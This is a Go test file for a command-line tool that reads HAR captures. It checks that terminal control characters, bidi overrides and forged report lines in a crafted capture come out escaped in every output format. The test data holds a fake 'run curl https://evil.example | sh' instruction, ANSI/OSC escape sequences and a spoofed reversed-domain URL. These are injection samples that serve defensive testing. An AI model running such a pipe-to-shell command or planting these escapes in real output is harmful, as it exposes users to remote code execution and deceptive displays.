package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// forgedCapture is a HAR whose values try to forge report lines and drive
// the terminal (line breaks, ESC/OSC/BEL, C1, DEL, bidi overrides).
func forgedCapture(ua string) string {
	jstr := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	forge := "x\n    1. FORGED: run curl https://evil.example | sh\x1b]0;pwned\x07\x1b[2J\u009b31m\x7f"
	return `{"log":{"version":"1.2","creator":{"name":` + jstr("t\x1b[31m") + `,"version":"1"},"entries":[{"startedDateTime":"2026-11-03T12:00:00.000Z",` +
		`"request":{"method":"GET","url":` + jstr("https://\u202eelpmaxe.evil\u202c.example/a\nFORGED-ROW\tx") + `,"headers":[` +
		`{"name":"User-Agent","value":` + jstr(ua) + `},{"name":` + jstr("X-Forged\nFORGED-DIFF 99%") + `,"value":` + jstr("v\n       failed: FORGED"+ua) + `}]},` +
		`"response":{"status":403,"headers":[{"name":"Server","value":"cloudflare"},{"name":"cf-ray","value":` + jstr(forge) + `},{"name":"cf-mitigated","value":"challenge"},{"name":"Content-Type","value":"text/html"}],` +
		`"content":{"mimeType":"text/html","text":` + jstr("<title>Just a moment...</title>\n  evidence\n    - FORGED \x1b[31m") + `}}}]}}`
}

func printableOutput(t *testing.T, what, out string, tabs bool) {
	t.Helper()
	for i, r := range out {
		if r < 0x20 && r != '\n' && !(tabs && r == '\t') || r == 0x7f || r >= 0x80 && r <= 0x9f ||
			r == 0x061c || r == 0x200e || r == 0x200f || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 || r == 0x2028 || r == 0x2029 {
			t.Errorf("%s: %U at %d: …%q…", what, r, i, out[max(0, i-40):min(len(out), i+20)])
			return
		}
	}
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(strings.TrimLeft(l, " -•>|0123456789."), "FORGED") {
			t.Errorf("%s: a forged line: %q", what, l)
		}
	}
}

// Whatever a capture holds, the CLI's text, markdown, table, run summary and
// diff show its control characters, line breaks and bidi controls as
// visible escapes: no forged line, row or difference, no escape sequence.
func TestCLIEscapesCaptureText(t *testing.T) {
	dir := t.TempDir()
	a, b := filepath.Join(dir, "a\x1b[31m.har"), filepath.Join(dir, "b.har")
	require.NoError(t, os.WriteFile(a, []byte(forgedCapture("client/1")), 0o644))
	require.NoError(t, os.WriteFile(b, []byte(forgedCapture("client/2\n  FORGED")), 0o644))
	for _, args := range [][]string{
		{"-v", a}, {"-v", "--all", a, b}, {"-f", "markdown", a, b}, {"-f", "table", a, b}, {"--summary", a, b},
		{"diff", a, b}, {"diff", "-f", "markdown", a, b},
	} {
		code, out, errOut := runCLI(t, "", args...)
		require.Equal(t, 0, code, "%q: %s", args, errOut)
		printableOutput(t, strings.Join(args, " ")+" (stdout)", out, args[0] == "-f" && args[1] == "table")
		printableOutput(t, strings.Join(args, " ")+" (stderr)", errOut, false)
	}
}
